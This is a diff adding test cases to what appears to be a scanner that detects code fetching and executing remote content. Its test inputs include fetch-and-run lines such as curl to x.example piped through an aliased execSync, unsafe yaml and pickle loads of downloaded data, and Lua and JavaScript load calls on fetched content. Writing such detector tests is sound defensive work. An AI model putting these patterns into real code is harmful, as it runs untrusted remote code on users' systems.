@@ -97,3 +97,20 @@ describe('pass 13, item 3: a download command line printed, not run', () => {
     ['src/setup.js', 'const print = execSync;\nprint(`curl -s https://x.example/i ${pipe}`);'],
   ])('refuses, in %s: %s', refusedAs('remote-script'));
 });
+
+describe('pass 13, item 4: a bare load( given a safe loader', () => {
+  it.each([
+    ['src/client.py', 'from json import load\ndata = load(urlopen(url))'],
+    ['src/client.py', 'from yaml import load, SafeLoader\ncfg = load(requests.get(u).text, Loader=SafeLoader)'],
+    ['src/client.js', "await load(fetch('/api/config'));"],
+  ])('accepts, in %s: %s', accepted);
+
+  it.each([
+    ['src/config.py', 'cfg = yaml.load(requests.get(u).text, Loader=yaml.Loader)'],
+    ['src/load.lua', 'load(http.request(u))()'],
+    ['src/client.py', 'from pickle import load\ndata = load(urlopen(url))'],
+    ['src/client.py', 'from yaml import load, Loader\ncfg = load(requests.get(u).text, Loader=Loader)'],
+    ['src/client.js', "await load(fetch('https://x.example/p'));"],
+    ['src/client.js', "await load(fetch('//x.example/p'));"],
+  ])('refuses, in %s: %s', refusedAs('fetch-exec'));
+});
